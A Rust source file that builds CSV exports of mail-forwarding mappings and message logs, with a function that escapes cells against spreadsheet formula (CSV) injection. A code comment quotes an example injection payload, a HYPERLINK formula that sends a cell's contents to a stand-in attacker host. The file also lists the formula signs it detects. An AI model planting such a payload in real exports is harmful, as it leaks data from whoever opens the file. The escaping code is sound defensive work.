//! The rows of the CSV exports: a header and one row per record, every cell safe to open in
//! a spreadsheet.

use std::borrow::Cow;

use app::model::{Mapping, MessageRecord};

/// A record an export writes as one CSV row.
pub trait Row {
    /// Column names, in the order of `cells`.
    const HEADER: &'static [&'static str];
    fn cells(&self) -> Vec<Cow<'_, str>>;
}

/// The signs that make a spreadsheet read a cell as a formula when they come first, and their
/// full-width and small forms, which some spreadsheets fold to them.
const FORMULA_SIGNS: &[char] = &[
    '=', '+', '-', '@', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}', '\u{FE66}', '\u{FE62}',
    '\u{FE63}', '\u{FE6B}',
];

/// Where a spreadsheet may start a new cell inside ours: Excel in a semicolon locale splits
/// lines on `;` whatever the quoting, and imports may split on tabs and line breaks.
const CELL_BREAKS: &[char] = &[';', '\t', '\r', '\n'];

/// What an import may drop before it looks at a cell's first character: white space (spaces,
/// no-break spaces, tabs) and characters no reader sees (a byte-order mark, zero-width
/// spaces, soft hyphens).
fn skippable(c: char) -> bool {
    c.is_whitespace() || crate::service::text::is_hidden(c)
}

/// A cell no spreadsheet runs. Senders and subjects come from anyone who can send mail, tags
/// and notes from any vend token: a subject `=HYPERLINK("https://evil.example/?"&A1, "Open")`
/// would otherwise run on the admin's machine when they open the export (CSV injection).
/// A formula sign gets an apostrophe in front of it, which spreadsheets take as "this is
/// text" and do not show, wherever a cell could start with it: at the start, after any
/// skippable characters, and after each `;`, tab or line break (where a semicolon-locale
/// Excel or a tab import starts a new cell). A leading tab or line break is escaped too
/// (OWASP's list). A program reading the file sees the apostrophes and can strip them
/// (docs/api.md says so).
pub fn safe_cell(cell: &str) -> Cow<'_, str> {
    let mut out = String::new();
    let mut copied = 0;
    // Whether the next character that is not skippable could start a cell.
    let mut at_start = true;
    for (i, c) in cell.char_indices() {
        let escape = if i == 0 && CELL_BREAKS[1..].contains(&c) {
            true
        } else {
            at_start && FORMULA_SIGNS.contains(&c)
        };
        if escape {
            out.push_str(&cell[copied..i]);
            out.push('\'');
            copied = i;
        }
        if CELL_BREAKS.contains(&c) {
            at_start = true;
        } else if !skippable(c) {
            at_start = false;
        }
    }
    if copied == 0 && out.is_empty() {
        return Cow::Borrowed(cell);
    }
    out.push_str(&cell[copied..]);
    Cow::Owned(out)
}

/// `rows` as CSV (RFC 4180: CRLF line ends, fields quoted when they hold a comma, a quote or
/// a line break), led by the header when `header`.
pub fn encode<T: Row>(rows: &[T], header: bool) -> Vec<u8> {
    let mut out = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::with_capacity(256 * (rows.len() + 1)));
    // Writing into memory cannot fail: the only errors are the writer's I/O.
    if header {
        out.write_record(T::HEADER).expect("writes to memory");
    }
    for row in rows {
        out.write_record(row.cells().iter().map(|c| safe_cell(c).into_owned()))
            .expect("writes to memory");
    }
    out.into_inner().expect("flushes to memory")
}

fn optional(v: &Option<String>) -> Cow<'_, str> {
    Cow::Borrowed(v.as_deref().unwrap_or(""))
}

impl Row for Mapping {
    const HEADER: &'static [&'static str] = &[
        "address",
        "account_name",
        "owner",
        "recipients",
        "status",
        "account_type",
        "aws_account_id",
        "tags",
        "notes",
        "base",
        "counter",
        "created_at",
        "created_by",
        "updated_at",
        "updated_by",
    ];

    fn cells(&self) -> Vec<Cow<'_, str>> {
        vec![
            Cow::Borrowed(&self.address),
            Cow::Borrowed(&self.account_name),
            Cow::Borrowed(&self.owner),
            // The other recipients, space-separated (addresses hold no spaces).
            Cow::Owned(self.recipients.join(" ")),
            Cow::Borrowed(self.status.as_str()),
            Cow::Borrowed(&self.account_type),
            optional(&self.aws_account_id),
            // One column for all tags: their keys differ from mapping to mapping, and a
            // streamed export cannot know every key before its first row.
            Cow::Owned(serde_json::to_string(&self.tags).unwrap_or_default()),
            optional(&self.notes),
            optional(&self.base),
            Cow::Owned(self.counter.map(|c| c.to_string()).unwrap_or_default()),
            Cow::Borrowed(&self.created_at),
            Cow::Borrowed(&self.created_by),
            Cow::Borrowed(&self.updated_at),
            Cow::Borrowed(&self.updated_by),
        ]
    }
}

impl Row for MessageRecord {
    const HEADER: &'static [&'static str] = &[
        "received_at",
        "recipient",
        "sender",
        "subject",
        "outcome",
        "delivered_to",
        "detail",
        "error",
        "attempts",
        "size",
        "verdicts",
        "id",
        "ses_message_id",
        "mailer_message_id",
        "updated_at",
        "delivery_state",
        "delivery_detail",
        "delivery_at",
        "class",
        "policy",
    ];

    fn cells(&self) -> Vec<Cow<'_, str>> {
        vec![
            Cow::Borrowed(&self.received_at),
            Cow::Borrowed(&self.recipient),
            Cow::Borrowed(&self.sender),
            optional(&self.subject),
            Cow::Borrowed(self.outcome.as_str()),
            optional(&self.delivered_to),
            Cow::Borrowed(&self.detail),
            optional(&self.error),
            Cow::Owned(self.attempts.to_string()),
            Cow::Owned(self.size.to_string()),
            Cow::Borrowed(&self.verdicts),
            Cow::Borrowed(&self.id),
            Cow::Borrowed(&self.ses_message_id),
            optional(&self.mailer_message_id),
            Cow::Borrowed(&self.updated_at),
            Cow::Borrowed(self.delivery.as_ref().map_or("", |d| d.state.as_str())),
            Cow::Borrowed(self.delivery.as_ref().map_or("", |d| d.detail.as_str())),
            Cow::Borrowed(self.delivery.as_ref().map_or("", |d| d.at.as_str())),
            Cow::Borrowed(self.class.map_or("", |c| c.as_str())),
            Cow::Borrowed(self.policy.map_or("", |p| p.as_str())),
        ]
    }
}

#[cfg(test)]
mod tests;
